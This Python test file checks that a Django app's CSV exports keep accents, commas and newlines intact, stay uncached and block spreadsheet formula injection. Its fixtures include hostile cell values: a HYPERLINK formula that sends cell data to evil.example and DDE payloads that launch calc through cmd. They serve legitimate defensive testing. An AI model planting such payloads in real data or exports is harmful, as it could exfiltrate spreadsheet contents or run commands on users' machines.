"""Every list exports to CSV that a spreadsheet reads right: UTF-8 with a BOM, accents, commas, newlines intact,
and never a formula (OWASP's CSV injection), and that no cache keeps."""

import csv
import io
import re
from datetime import timedelta
from decimal import Decimal

import pytest
from django.core.cache import cache
from django.urls import URLResolver, get_resolver, reverse
from django.utils import timezone

from accounts.listing import FORMULA_STARTS, csv_cell_guard, csv_cell_unguard
from accounts.selectors import profile_get
from clients.models import RedFlagKind
from clients.services import client_blacklist
from projects.models import IncomingRequest, State
from tests.factories import (
    ClientFactory,
    ColleagueFactory,
    IncomingRequestFactory,
    InvoiceFactory,
    ProjectFactory,
    RedFlagFactory,
    ReferralFactory,
)

pytestmark = pytest.mark.django_db
TRICKY = 'Boulangerie « Lefèvre », Zoé & fils\nsecond line "quoted"'


def read_csv(response):
    body = b"".join(response.streaming_content) if response.streaming else response.content
    assert body.startswith("\ufeff".encode())
    assert response["Content-Type"].startswith("text/csv")
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))


@pytest.fixture
def data(owner, other_user):
    client = ClientFactory(owner=owner, name=TRICKY, is_blacklisted=True)
    IncomingRequestFactory(client=client, title=TRICKY)
    IncomingRequestFactory(client=client, title="Declined one", state=State.DECLINED)
    project = ProjectFactory(client=client, title=TRICKY)
    today = timezone.localdate()
    InvoiceFactory(
        project=project, number="F-1", issued_on=today - timedelta(days=60), due_on=today - timedelta(days=30)
    )
    InvoiceFactory(project=project, number="F-2", paid_on=timezone.localdate())
    RedFlagFactory(client=client, kind=RedFlagKind.DISRESPECT, note=TRICKY)
    ReferralFactory(colleague=ColleagueFactory(owner=owner, name=TRICKY), description=TRICKY)
    # Another user's rows never appear in my exports.
    ClientFactory(owner=other_user, name="Secret Client")
    IncomingRequestFactory(client=ClientFactory(owner=other_user), title="Secret request")


@pytest.mark.parametrize(
    "url_name",
    [
        "clients:client_export",
        "clients:blacklist_export",
        "clients:red_flag_export",
        "projects:incoming_export",
        "projects:project_export",
        "projects:invoice_export",
        "referrals:colleague_export",
        "referrals:referral_export",
    ],
)
def test_every_list_exports_text_with_accents_commas_and_newlines_intact(owner_client, data, url_name):
    rows = read_csv(owner_client.get(reverse(url_name)))
    cells = [cell for row in rows[1:] for cell in row]
    assert TRICKY in cells
    assert not any("Secret" in cell for cell in cells)


def test_the_requests_export_follows_the_inbox_filters(owner_client, data):
    waiting = read_csv(owner_client.get(reverse("projects:incoming_export")))
    declined = read_csv(owner_client.get(reverse("projects:incoming_export"), {"state": "declined"}))
    assert [row[1] for row in waiting[1:]] == [TRICKY]
    assert [row[1] for row in declined[1:]] == ["Declined one"]


def test_the_invoices_export_can_keep_only_the_overdue_ones(owner_client, data):
    overdue = read_csv(owner_client.get(reverse("projects:invoice_export"), {"status": "overdue"}))
    assert [row[0] for row in overdue[1:]] == ["F-1"]
    assert overdue[1][-1] == "30"  # days late


# --- Formula injection (issue #17, finding 2) -----------------------------------------------------------
# What a prospect types into the public form, and what a colleague or a client's note may hold: a
# spreadsheet would run each of these as a formula if a cell started with it.
HOSTILE_NAME = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
HOSTILE_COMPANY = "+cmd|' /C calc'!A0"
HOSTILE_PHONE = "@SUM(1)"
HOSTILE_TEXTS = {
    HOSTILE_NAME,
    HOSTILE_COMPANY,
    HOSTILE_PHONE,
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "'=already quoted once",
}
EXPORTS = [
    "clients:client_export",
    "clients:blacklist_export",
    "clients:red_flag_export",
    "projects:incoming_export",
    "projects:project_export",
    "projects:invoice_export",
    "referrals:colleague_export",
    "referrals:referral_export",
]
NUMBER = re.compile(r"^-?\d+(\.\d+)?$")


def export_names(resolver=None, namespace=""):
    """Every URL name of the URLconf that ends in _export: a new export fails the test below until listed."""
    names = set()
    for pattern in (resolver or get_resolver()).url_patterns:
        if isinstance(pattern, URLResolver):
            inner = f"{namespace}{pattern.namespace}:" if pattern.namespace else namespace
            names |= export_names(pattern, inner)
        elif pattern.name and pattern.name.endswith("_export"):
            names.add(namespace + pattern.name)
    return names


def test_every_csv_export_of_the_site_is_driven_by_these_tests():
    assert export_names() == set(EXPORTS)


@pytest.fixture
def hostile(owner, client):
    """A hostile prospect comes in through the public form; the rest is the owner's own hostile-looking text."""
    cache.clear()  # the intake form's rate limit counts in the cache
    intake_url = reverse("projects:intake", args=[profile_get(owner=owner).intake_token])
    response = client.post(
        intake_url,
        {
            "name": HOSTILE_NAME,
            "email": "mallory@evil.example",
            "company": HOSTILE_COMPANY,
            "phone": HOSTILE_PHONE,
            "language": "fr",
            "title": "-2+3+cmd|' /C calc'!A0",
            "description": "=1+1",
            "skills": "",
            "budget_kind": "fixed",
            "budget_amount": "2500",
            "desired_start": "",
            "deadline": "",
            "website": "",
        },
    )
    assert response.status_code == 200
    incoming = IncomingRequest.objects.get(owner=owner)
    prospect = incoming.client
    assert (prospect.name, prospect.company, prospect.phone) == (HOSTILE_NAME, HOSTILE_COMPANY, HOSTILE_PHONE)
    client_blacklist(owner=owner, client=prospect, reason="\t=1+1")
    project = ProjectFactory(client=prospect, title="\r=1+1")
    InvoiceFactory(project=project, number="'=already quoted once", amount=Decimal("1200.50"))
    RedFlagFactory(client=prospect, kind=RedFlagKind.DISRESPECT, note="\t=1+1")
    colleague = ColleagueFactory(owner=owner, name=HOSTILE_NAME, phone=HOSTILE_PHONE, notes="a;=1+1")
    ReferralFactory(colleague=colleague, client=prospect, description=HOSTILE_COMPANY)  # given: they owe me one
    return prospect


@pytest.mark.parametrize("url_name", EXPORTS)
def test_no_export_hands_a_spreadsheet_a_formula(owner_client, hostile, url_name):
    """Every cell that would start a formula starts with an apostrophe; numbers stay numbers."""
    url = reverse(url_name)
    if url_name == "projects:incoming_export":
        url += "?state=new"
    rows = read_csv(owner_client.get(url))
    cells = [cell for row in rows for cell in row]
    dangerous = [cell for cell in cells if cell.startswith(FORMULA_STARTS) and not NUMBER.match(cell)]
    assert dangerous == []
    guarded = {cell[1:] for cell in cells if cell.startswith("'")}
    assert guarded & HOSTILE_TEXTS, "the hostile data should be in this export, guarded"


def test_numbers_are_written_as_numbers_even_negative_ones(owner_client, hostile):
    invoices = read_csv(owner_client.get(reverse("projects:invoice_export")))
    assert invoices[1][3] == "1200.50"
    colleagues = read_csv(owner_client.get(reverse("referrals:colleague_export")))
    assert colleagues[1][12] == "-1"  # I sent one referral and received none: a number, not a formula


def test_a_cell_holding_a_semicolon_is_quoted_so_a_french_spreadsheet_does_not_split_it(owner_client, hostile):
    body = b"".join(owner_client.get(reverse("referrals:colleague_export")).streaming_content).decode("utf-8-sig")
    assert '"a;=1+1"' in body


@pytest.mark.parametrize("url_name", EXPORTS)
def test_no_export_is_kept_in_a_cache(owner_client, data, url_name):
    assert owner_client.get(reverse(url_name))["Cache-Control"] == "no-store"


@pytest.mark.parametrize(
    "text",
    ["=1+1", "+1", "-1", "@SUM(1)", "\t=1", "\r=1", "'=1", "''=1", "'", "''", "'hello", "", "hello", "-12.50", "a=1"],
)
def test_guarding_a_cell_and_reading_it_back_gives_the_same_text(text):
    guarded = csv_cell_guard(text)
    assert not guarded.startswith(FORMULA_STARTS)
    assert csv_cell_unguard(guarded) == text


@pytest.mark.parametrize("value", [Decimal("-12.50"), -3, 0, 2.5, Decimal("1200.50")])
def test_a_number_is_never_guarded(value):
    assert csv_cell_guard(value) == str(value)
